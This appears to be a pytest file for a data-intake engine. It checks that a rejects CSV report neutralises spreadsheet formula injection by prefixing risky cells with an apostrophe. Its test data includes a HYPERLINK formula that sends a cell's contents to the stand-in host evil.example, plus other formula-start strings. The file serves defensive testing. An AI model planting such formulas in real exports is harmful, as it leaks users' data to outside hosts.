"""The rejects report starts no cell with a spreadsheet formula (issue 12): its field column can be a
header name from the extract, and a reason can quote a value."""

from __future__ import annotations

import csv

import pytest

from engine.intake.refusals import Reject
from engine.intake.report import inert_cell, write_rejects_report
from tests.helpers.extracts import PERSONS, run, write_town

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_made_text(text):
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["persons.csv", "", "unknown code 'x' — =1", "東=1", 7])
def test_other_cells_are_kept(value):
    assert inert_cell(value) == value


def test_an_empty_cell_is_written_empty():
    assert inert_cell(None) == ""


def _cells(path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_hostile_header_in_the_field_column(conn, tmp_path):
    hostile = FORMULAS[0]
    header, *rows = PERSONS.splitlines()
    quoted = '"' + hostile.replace('"', '""') + '"'
    persons = "\n".join([f"{header},{quoted}", *(f"{r}," for r in rows[:-1]), f"{rows[-1]},{'x' * 10_001}"]) + "\n"
    result = run(conn, write_town(tmp_path / "in", persons=persons), report_dir=tmp_path / "reports")
    [reject] = result.rejects
    assert reject.field == hostile  # the field is the header name …
    cells = _cells(result.report_path)
    assert f"'{hostile}" in cells  # … written as text
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_every_column_of_the_report_is_guarded(tmp_path):
    rejects = [Reject(file=f, line=2, field=f, reason=f) for f in FORMULAS]
    cells = _cells(write_rejects_report(tmp_path / "rejects.csv", rejects))
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert cells.count("'@SUM(A1:A9)") == 3
